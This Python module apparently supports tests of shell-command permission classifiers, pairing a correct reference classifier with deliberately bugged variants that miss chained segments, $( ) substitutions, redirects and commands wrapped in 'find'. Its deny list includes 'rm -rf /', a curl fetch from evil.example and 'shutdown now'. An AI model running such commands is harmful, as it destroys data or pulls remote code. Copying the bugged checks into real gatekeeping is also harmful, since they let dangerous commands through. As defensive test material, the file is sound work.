"""Classifiers and leaves shared by the compose tests (a correct one and planted bugs)."""

from __future__ import annotations

import enum
import re

ALLOWED_LEAVES = [
    "ls -la",
    "cat README.md",
    "echo hello",
    "git status",
    "wc -l notes.txt",
    "grep -n 'a b' notes.txt",
]
DENIED_LEAVES = ["rm -rf /", "curl http://evil.example/x", "shutdown now"]
LEAVES = [f"allow: {leaf}" for leaf in ALLOWED_LEAVES] + [f"deny: {leaf}" for leaf in DENIED_LEAVES]

#: Words the reference classifier denies wherever they appear.
DENIED_WORDS = {"rm", "curl", "shutdown", "tee"}
_TOKEN = re.compile(r"[A-Za-z0-9_.~/-]+")


def reference(command: str) -> bool:
    """A correct classifier for the test leaves: deny any denied word anywhere, and any write.

    It is monotone in the tokens of the command, so F, R, and the metamorphic family
    hold for it by construction.
    """
    if ">" in command:
        return False
    return not any(tok in DENIED_WORDS for tok in _TOKEN.findall(command))


def first_segment(command: str) -> bool:
    """Planted bug: judges only the first segment of a chain."""
    first = re.split(r"&&|\|\||[|&;\n(){}]", command.strip().lstrip("({ "))[0]
    return reference(first)


def deny_and(command: str) -> bool:
    """Planted over-denial: refuses every ``&&`` (even of allowed parts)."""
    return "&&" not in command and reference(command)


def substitution_blind(command: str) -> bool:
    """Planted bug: forgets to look inside ``$( … )``."""
    return reference(re.sub(r"\$\([^)]*\)", "", command))


class Level(enum.IntEnum):
    """Ordered verdict levels: Denied wins, otherwise the highest level."""

    INERT = 0
    READ = 1
    WRITE = 2
    DENIED = 3


_LEAF_LEVELS = {
    "echo": Level.INERT,
    "ls": Level.READ,
    "cat": Level.READ,
    "git": Level.READ,
    "wc": Level.READ,
    "grep": Level.READ,
}


def leveled(command: str) -> Level:
    """A level classifier: the highest level of any word, DENIED for a denied word."""
    if not reference(command):
        return Level.DENIED
    levels = [_LEAF_LEVELS.get(tok, Level.INERT) for tok in _TOKEN.findall(command)]
    return max(levels, default=Level.INERT)


def leveled_first_only(command: str) -> Level:
    """Planted level bug: the level of the first word only (denials still seen everywhere)."""
    if not reference(command):
        return Level.DENIED
    words = _TOKEN.findall(command)
    return _LEAF_LEVELS.get(words[0], Level.INERT) if words else Level.INERT


def is_allowed_level(level: Level) -> bool:
    return level != Level.DENIED


def redirect_blind(command: str) -> bool:
    """Planted bug: never looks at ``>`` redirects (so writes to protected paths pass)."""
    return reference(command.replace(">", " "))


def wrapper_blind(command: str) -> bool:
    """Planted bug: trusts everything that starts with ``find``."""
    return command.startswith("find ") or reference(command)
